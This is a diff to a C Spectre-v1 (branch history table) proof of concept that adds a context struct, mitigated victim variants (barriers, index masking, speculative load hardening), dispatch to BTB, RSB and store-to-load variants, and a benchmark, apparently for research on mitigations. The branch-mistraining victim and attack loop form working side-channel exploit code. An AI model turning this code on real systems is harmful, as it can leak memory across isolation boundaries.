@@ -5,7 +5,8 @@
  *
  * \details This file contain the core of a Spectre attack, targeting the
  *          Pattern History Table, in a same address-space and an in-place
- *          training.
+ *          training, and the attack context shared by all the variants. The
+ *          receiver is in \sa {receiver.c}.
  * \note The Spectre core code is based on the PoC from the original paper, but
  *       it has been modified with important efficiency improvements.
  * \warning Sometime, code is weird. Bit twiddling, variable in different scope
@@ -19,161 +20,339 @@
 #include <string.h> /* For memset(). */
 #include <stdint.h>
 
-/* Contain ARMv8 implementation of flush, rdtsc and [im]fence. */
+/* Contain ARMv8 or x86-64 implementation of flush, rdtsc and [im]fence. */
 #include "asm.h"
 /* Used for \sa {struct arguments}. */
 #include "util.h"
+/* Used for \sa {struct candidates}. */
+#include "candidates.h"
 
 #include "spectre_pht_sa_ip.h"
+/* Used for \sa {spectre_pht_sa_op_attack()}. */
+#include "spectre_pht_sa_op.h"
+/* Used for \sa {spectre_btb_sa_attack()}. */
+#include "spectre_btb_sa.h"
+/* Used for \sa {spectre_rsb_sa_attack()}. */
+#include "spectre_rsb_sa.h"
+/* Used for \sa {spectre_stl_sa_attack()}. */
+#include "spectre_stl_sa.h"
+
+/* * Layout: */
+
+/** True if the line at this offset of the context shares its L1D set with the
+    probe lines of array2 (for any number of sets multiple of
+    PAGESIZE / CACHELINE). */
+#define PROBE_ALIASED(offset) (((offset) - offsetof(struct spectre_ctx, array2)) % PAGESIZE < CACHELINE)
+
+/** True if no line of a field of the context shares its L1D set with the
+    probe lines: it starts after the first line of its block of PAGESIZE
+    bytes, and ends in the same block. */
+#define PROBE_CLEAR(field)                                                       \
+    (!PROBE_ALIASED(offsetof(struct spectre_ctx, field))                         \
+     && (offsetof(struct spectre_ctx, field) - offsetof(struct spectre_ctx, array2)) % PAGESIZE \
+        + sizeof(((struct spectre_ctx *) 0)->field) <= PAGESIZE)
+
+/** True if a spread array of the context starts a block: its elements then
+    skip the first line of each block (\sa {struct spread_ints}). */
+#define PROBE_SPREAD(field)                                                      \
+    ((offsetof(struct spectre_ctx, field) - offsetof(struct spectre_ctx, array2)) % PAGESIZE == 0)
+
+_Static_assert(sizeof(struct spread_ints) == PAGESIZE
+               && offsetof(struct spread_ints, v) >= CACHELINE
+               && sizeof(struct spread_bytes) == PAGESIZE
+               && offsetof(struct spread_bytes, v) >= CACHELINE,
+               "The spread arrays don't skip the sets of the probe lines.");
+_Static_assert(PROBE_CLEAR(array1) && PROBE_CLEAR(temp) && PROBE_CLEAR(array1_mask)
+               && PROBE_CLEAR(secret) && PROBE_CLEAR(array1_size) && PROBE_CLEAR(target)
+               && PROBE_CLEAR(ret_slot) && PROBE_CLEAR(stl_ptr) && PROBE_CLEAR(stl_offset),
+               "The victim's data share L1D sets with the probe lines.");
+_Static_assert(PROBE_CLEAR(tries) && PROBE_CLEAR(loops) && PROBE_CLEAR(threshold)
+               && PROBE_CLEAR(candidates) && PROBE_CLEAR(sim) && PROBE_CLEAR(confusion)
+               && PROBE_CLEAR(victim) && PROBE_CLEAR(victim_bare) && PROBE_CLEAR(attack)
+               && PROBE_CLEAR(shadow) && PROBE_CLEAR(args)
+               && PROBE_SPREAD(results) && PROBE_SPREAD(thresholds) && PROBE_SPREAD(order),
+               "The receiver's data share L1D sets with the probe lines.");
+
+/** Export the offset of a field of the context as the absolute symbol
+    "spectre_layout_<field>", read by layout.sh. */
+#define LAYOUT_SYMBOL(field)                                        \
+    asm volatile(".globl spectre_layout_" #field "\n"               \
+                 ".set spectre_layout_" #field ", %c0"              \
+                 : : "i" (offsetof(struct spectre_ctx, field)))
+
+/* Never called, only holds the layout symbols. */
+static void __attribute__((used)) layout_symbols(void) {
+    LAYOUT_SYMBOL(array1_size);
+    LAYOUT_SYMBOL(array1);
+    LAYOUT_SYMBOL(temp);
+    LAYOUT_SYMBOL(target);
+    LAYOUT_SYMBOL(ret_slot);
+    LAYOUT_SYMBOL(stl_ptr);
+    LAYOUT_SYMBOL(stl_offset);
+    LAYOUT_SYMBOL(results);
+    LAYOUT_SYMBOL(tries);
+    LAYOUT_SYMBOL(thresholds);
+    LAYOUT_SYMBOL(order);
+    LAYOUT_SYMBOL(array2);
+}
 
 /* * Victim code: */
 
-/* ** Public variables: */
+/* ** Guarded accesses: */
 
-/* Note the padding to be sure that all arrays do not produce hit in the same
- * cache line.  */
-uint8_t unused1[CACHELINE];
-uint8_t array1[160] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
-uint8_t unused2[CACHELINE];
+/* Bodies of the victim's variants: the bounds check and the access, hardened
+   or not against Spectre-v1. Each one is inlined into the attacked victim and
+   into its bare version (\sa {VICTIM}). The bound check uses a division
+   instead of an int-comparison since it takes more time, thus increase the
+   transient execution window. */
+#define GUARD static inline __attribute__((always_inline)) void
+
+/* No mitigation: this branch will be tricked by Spectre during the attack
+   phase. */
+GUARD guard_none(struct spectre_ctx * ctx, size_t x) {
+    if ((float) x / (float) ctx->array1_size < 1)
+        ctx->temp &= ctx->array2[ctx->array1[x] * PAGESIZE];
+}
 
-uint8_t array2[256 * PAGESIZE];
+/* Full barrier: nothing executes after the check before it is resolved. */
+GUARD guard_barrier(struct spectre_ctx * ctx, size_t x) {
+    if ((float) x / (float) ctx->array1_size < 1) {
+        nospec();
+        ctx->temp &= ctx->array2[ctx->array1[x] * PAGESIZE];
+    }
+}
 
-char *secret = "The Magic Words are Squeamish Ossifrage.";
+/* Conditional select masking: the index is zeroed if out of bounds, by a mask
+   which can't be predicted. */
+GUARD guard_csdb(struct spectre_ctx * ctx, size_t x) {
+    if ((float) x / (float) ctx->array1_size < 1) {
+        x &= index_mask_nospec(x, ctx->array1_size);
+        ctx->temp &= ctx->array2[ctx->array1[x] * PAGESIZE];
+    }
+}
 
-/* ** Private variables: */
+/* Speculation barrier: like the full barrier, at a lower cost. */
+GUARD guard_sb(struct spectre_ctx * ctx, size_t x) {
+    if ((float) x / (float) ctx->array1_size < 1) {
+        sb();
+        ctx->temp &= ctx->array2[ctx->array1[x] * PAGESIZE];
+    }
+}
 
-/* Size of the shared array used for the offset. */
-unsigned int array1_size = 16;
+/* Index masking: the index is truncated to the power of two above the size,
+   without any barrier. Out-of-bounds accesses stay in array1. */
+GUARD guard_mask(struct spectre_ctx * ctx, size_t x) {
+    if ((float) x / (float) ctx->array1_size < 1)
+        ctx->temp &= ctx->array2[ctx->array1[x & ctx->array1_mask] * PAGESIZE];
+}
 
-/* Used so compiler won't optimize out victim_function(). */
-uint8_t temp = 0;
+/* Speculative load hardening: the loaded value, rather than the index, is
+   poisoned by the predicate state of the check before being used as an
+   address. */
+GUARD guard_slh(struct spectre_ctx * ctx, size_t x) {
+    uint8_t value;
+    if ((float) x / (float) ctx->array1_size < 1) {
+        value = ctx->array1[x] & index_mask_nospec(x, ctx->array1_size);
+        ctx->temp &= ctx->array2[value * PAGESIZE];
+    }
+}
 
 /* ** Private functions: */
 
-/* Function that will be tricked by Spectre. */
-static void victim_function(size_t x) {
-    /* Flush the variables used in the condition to add a higher delay. */
-    mfence();
-    flush(&array1_size);
-    flush(&x);
-    /* Ensure data is flushed at this point. */
-    mfence();
-    ifence();
-    /* Perform a legitimate array access, with bound checking. This branch will
-       be tricked by Spectre during the attack phase. We use a division instead
-       of an int-comparison since it takes more time, thus increase the
-       transient execution window. */
-    if ((float) x / (float) array1_size < 1)
-        temp &= array2[array1[x] * PAGESIZE];
-}
+/* Define the function that will be tricked by Spectre, for one variant, and
+   its bare version without the flushes, used to measure the cost of the
+   variant. */
+#define VICTIM(name)                                                                            \
+    static HOT_PATH HOT_SECTION("victim") void victim_##name(struct spectre_ctx * ctx, size_t x) { \
+        /* Flush the variables used in the condition to add a higher delay. */                  \
+        mfence();                                                                               \
+        flush(&ctx->array1_size);                                                               \
+        flush(&x);                                                                              \
+        /* Ensure data is flushed at this point. */                                             \
+        mfence();                                                                               \
+        ifence();                                                                               \
+        guard_##name(ctx, x);                                                                   \
+    }                                                                                           \
+    static HOT_PATH void victim_##name##_bare(struct spectre_ctx * ctx, size_t x) {             \
+        guard_##name(ctx, x);                                                                   \
+    }
+
+VICTIM(none)
+VICTIM(barrier)
+VICTIM(csdb)
+VICTIM(sb)
+VICTIM(mask)
+VICTIM(slh)
+
+/** Variants of the victim, selected by "args.mitigation". */
+static const struct
+{
+    const char * name;
+    void (*victim)(struct spectre_ctx *, size_t);
+    void (*bare)(struct spectre_ctx *, size_t);
+} victims[] =
+    {
+     {"none",    victim_none,    victim_none_bare},
+     {"barrier", victim_barrier, victim_barrier_bare},
+     {"csdb",    victim_csdb,    victim_csdb_bare},
+     {"sb",      victim_sb,      victim_sb_bare},
+     {"mask",    victim_mask,    victim_mask_bare},
+     {"slh",     victim_slh,     victim_slh_bare},
+     { 0 }
+    };
+
+/* ** Public functions: */
+
+HOT_PATH HOT_SECTION("probe") void spectre_pht_sa_ip_attack(struct spectre_ctx * ctx, size_t training_x, size_t malicious_x) {
+    /* i: Count the number of training and attacks. */
+    int i;
+    /* Offset given to array1, either the training or the malicious one. */
+	size_t x;
 
-/* * Analysis code: */
-
-void spectre_pht_sa_ip_read(size_t malicious_x, struct arguments * args, uint8_t * value, int * score) {
-    /* Setup all the parameters at the beginning of the function. Important for
-       probability of success. */
-
-    /* Table that will hold scores for each possibility (256) to guess one
-       byte. Note that it MUST be declared as "static", but I don't know
-       why. */
-	static int results[256];
-    /* The number of attempts to guess one byte. Same note as above for static
-       keywords. */
-    static int tries, loops;
-    tries = args->tries;
-    loops = args->loops;
-    /* i, mix_i: Index array2 and results arrays.
-     * i: Count the number of training and attacks.
-     * j, k: Search the best results.
-     * junk: Force non-optimization. */
-    int i, mix_i, j, k, junk = 0;
-    /* Theses are the offset given to array1. The training one is legit, while
-       the second is used for transient attack. */
-	size_t training_x, x;
-    /* Used to compute the time taken by the access to a byte at "addr". */
-	register uint64_t time1, time2;
-	volatile uint8_t *addr;
-
-    /* Initialize the results array. */
-    memset(results, 0, sizeof(results));
-    /* Do 999 attempts (by default) to guess the byte. */
-    for (; tries > 0; tries--) {
-        /* Attack preparation. */
-        
-		/* Flush the array2[PAGESIZE * (0 .. 255)] from the cache. */
-		for (i = 0; i < 256; i++) {
-			flush(&array2[i * PAGESIZE]);
-            /* Don't work if we not wait for completion here. Usually, these
-               two calls would be outside the loop. In this case, we need them
-               inside the loop to work on gem5. */
-            mfence();
-            ifence();
-        }
-
-        /* Attack execution. */
-
-        /* The offset used for the training will walk the array1. */
-		training_x = tries % array1_size;
-		/* Execute 30 loops (by default): 5 training runs (x = training_x) per
-           attack run (x = malicious_x). */
-		for (i = loops; i >= 0; i--) {
-            /* Don't work if we not wait for completion here. */
-            mfence();
-			/* Bit twiddling to set : x = (i % 6 != 0) ? training_x : malicious_x; */
-			/* It avoid jumps in case those tip off the branch predictor. */
-			x = ((i % 6) - 1) & ~0xFFFF;                       /* Set x = (i % 6 == 0) ? 0xFF..FF0000 : 0; */
-			x |= x >> 16;                                      /* Set x = (i & 6 == 0) ? -1 : 0; */
-			x = training_x ^ (x & (malicious_x ^ training_x)); /* Set x = (x == 0) ? training_x : malicious_x; */
-			
-			/* Call the victim function, either training or attacking it. */
-			victim_function(x);
-		}
-
-        /* Attack's data retrieval. */
-
-        /* Avoid speculative execution before the attack end. */
+	/* Execute 30 loops (by default): 5 training runs (x = training_x) per
+       attack run (x = malicious_x). */
+	for (i = ctx->loops; i >= 0; i--) {
+        /* Don't work if we not wait for completion here. */
         mfence();
-		/* Iterate over each possibility for the guessed byte. */
-		for (i = 0; i < 256; i++) {
-            /* Order is lightly mixed up to prevent stride prediction. */
-			mix_i = ((i * 167) + 13) & 255;
-            /* Time the access to array2 for this possibility. */
-			addr = &array2[mix_i * PAGESIZE];
-			time1 = rdtsc();
-			junk = *addr; /* Could use "mem_acces(addr);" here. To be tested. TODO */
-			time2 = rdtsc() - time1;
-            /* If the access is a cache hit and the possibility isn't the
-               training one, it has a good chance to correspond to the
-               transiently accessed byte. Increase his score. */
-			if (time2 <= CACHE_HIT_THRESHOLD && mix_i != array1[training_x])
-				results[mix_i]++; 
-		}
-        
-        /* Attack's results estimation. */
-
-		/* Locate highest & second-highest results tallies and place their
-           index in j/k. */
-		j = k = -1;
-        /* Iterate over each possibilities. */
-		for (i = 0; i < 256; i++) {
-            /* If the best guess isn't initialized or if we find better. */
-			if (j < 0 || results[i] >= results[j]) {
-				k = j;
-				j = i;
-            /* If the 2nd best guess isn't initialized or if we find better. */ 
-			} else if (k < 0 || results[i] >= results[k]) {
-				k = i;
-			}
-		}
-        /* If we find that (1st's score > 2 * 2nd's score) or 2/0, we can say
-           that it's a clear success and stop the research to gain a lot of
-           speed. */
-		if (results[j] >= (2 * results[k]) || (results[j] == 2 && results[k] == 0))
-			break;
+		/* Bit twiddling to set : x = (i % 6 != 0) ? training_x : malicious_x; */
+		/* It avoid jumps in case those tip off the branch predictor. */
+		x = ((i % 6) - 1) & ~0xFFFF;                       /* Set x = (i % 6 == 0) ? 0xFF..FF0000 : 0; */
+		x |= x >> 16;                                      /* Set x = (i & 6 == 0) ? -1 : 0; */
+		x = training_x ^ (x & (malicious_x ^ training_x)); /* Set x = (x == 0) ? training_x : malicious_x; */
+		
+		/* Call the victim function, either training or attacking it. */
+		ctx->victim(ctx, x);
 	}
+}
+
+/* * Context: */
+
+struct spectre_ctx * spectre_ctx_create(struct arguments * args, const struct candidates * candidates) {
+    /* Default content of the offset array, as in the original PoC. */
+    static const uint8_t array1_init[16] = {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16};
+    struct spectre_ctx * ctx = aligned_alloc(4096, sizeof(*ctx));
+
+    if (!ctx)
+        return NULL;
+    memset(ctx, 0, sizeof(*ctx));
+    memcpy(ctx->array1, array1_init, sizeof(array1_init));
+    ctx->array1_size = sizeof(array1_init);
+    /* Smallest power of two greater or equal to the size, minus one. */
+    for (ctx->array1_mask = 1; ctx->array1_mask < ctx->array1_size; ctx->array1_mask <<= 1)
+        ;
+    ctx->array1_mask--;
+    ctx->secret      = "The Magic Words are Squeamish Ossifrage.";
+    ctx->candidates  = candidates;
+    ctx->args        = *args;
+    if ((args->confusion && !(ctx->confusion = calloc(1, sizeof(*ctx->confusion))))
+        || spectre_ctx_variant_init(ctx) || spectre_ctx_channel_init(ctx)) {
+        /* Same release as \sa {spectre_ctx_destroy()}, of whatever was
+           initialized. */
+        spectre_pht_sa_op_release(ctx);
+        free(ctx->confusion);
+        free(ctx->sim);
+        free(ctx);
+        return NULL;
+    }
+    return ctx;
+}
+
+/**
+ * \brief Check that the simulated channel, if selected, models the variant.
+ * \details It replays the in-place PHT training pattern only (\sa
+ *          {struct sim_channel}), whatever the attack of the context.
+ *
+ * \return int 0 if the channel and the variant can be used together, 1
+ *             otherwise.
+ */
+static int spectre_ctx_channel_check(struct spectre_ctx * ctx) {
+    if (!strcmp(ctx->args.channel, "sim") && strcmp(ctx->args.variant, "pht")) {
+        fprintf(stderr, "The simulated channel only models the pht variant, not %s.\n", ctx->args.variant);
+        return 1;
+    }
+    return 0;
+}
+
+int spectre_ctx_variant_init(struct spectre_ctx * ctx) {
+    int i;
+
+    if (spectre_ctx_channel_check(ctx))
+        return 1;
+    spectre_pht_sa_op_release(ctx);
+    if (!strcmp(ctx->args.variant, "pht")) {
+        ctx->attack = spectre_pht_sa_ip_attack;
+    } else if (!strcmp(ctx->args.variant, "pht-op")) {
+        ctx->attack = spectre_pht_sa_op_attack;
+    } else if (!strcmp(ctx->args.variant, "btb")) {
+        ctx->attack = spectre_btb_sa_attack;
+        return spectre_btb_sa_victim_init(ctx);
+    } else if (!strcmp(ctx->args.variant, "rsb")) {
+        ctx->attack = spectre_rsb_sa_attack;
+        return spectre_rsb_sa_victim_init(ctx);
+    } else if (!strcmp(ctx->args.variant, "stl")) {
+        ctx->attack = spectre_stl_sa_attack;
+        return spectre_stl_sa_victim_init(ctx);
+    } else {
+        fprintf(stderr, "Unknown variant: %s\n", ctx->args.variant);
+        return 1;
+    }
+
+    for (i = 0; victims[i].name && strcmp(victims[i].name, ctx->args.mitigation); i++)
+        ;
+    if (!victims[i].name) {
+        fprintf(stderr, "Unknown mitigation: %s\n", ctx->args.mitigation);
+        return 1;
+    }
+    if (!strcmp(victims[i].name, "sb") && !sb_supported()) {
+        fprintf(stderr, "The SB instruction is not supported by this CPU.\n");
+        return 1;
+    }
+    ctx->victim      = victims[i].victim;
+    ctx->victim_bare = victims[i].bare;
+    if (ctx->attack == spectre_pht_sa_op_attack)
+        return spectre_pht_sa_op_init(ctx);
+    return 0;
+}
+
+int spectre_ctx_channel_init(struct spectre_ctx * ctx) {
+    struct arguments * args = &ctx->args;
+
+    if (strcmp(args->channel, "sim")) {
+        ctx->sim = (free(ctx->sim), NULL);
+        return 0;
+    }
+    if (spectre_ctx_channel_check(ctx))
+        return 1;
+    if (!ctx->sim && !(ctx->sim = malloc(sizeof(*ctx->sim))))
+        return 1;
+    sim_init(ctx->sim, args->sim_hit_rate, args->sim_fp_rate, args->sim_noise, args->sim_seed);
+    return 0;
+}
+
+void spectre_ctx_destroy(struct spectre_ctx * ctx) {
+    spectre_pht_sa_op_release(ctx);
+    free(ctx->confusion);
+    free(ctx->sim);
+    free(ctx);
+}
+
+void spectre_victim_bench(struct spectre_ctx * ctx, int calls, double * latency, double * throughput) {
+    struct timespec start, end;
+    uint64_t time, sum = 0;
+    int i;
 
-    /* Store the best guess to report it to main. */
-	results[0] ^= junk;  /* Use junk so code above won't get optimized out. */
-	*value = (uint8_t) j;
-	*score = results[j];
+    /* Latency: serialized calls, each one timed. Include the overhead of
+       rdtsc(), the same for all the variants. */
+    for (i = 0; i < calls; i++) {
+        time = rdtsc();
+        ctx->victim_bare(ctx, i % ctx->array1_size);
+        sum += rdtsc() - time;
+    }
+    *latency = (double) sum / calls;
+    /* Throughput: back-to-back calls. */
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    for (i = 0; i < calls; i++)
+        ctx->victim_bare(ctx, i % ctx->array1_size);
+    clock_gettime(CLOCK_MONOTONIC, &end);
+    *throughput = calls / ((end.tv_sec - start.tv_sec) + (end.tv_nsec - start.tv_nsec) * 1e-9);
 }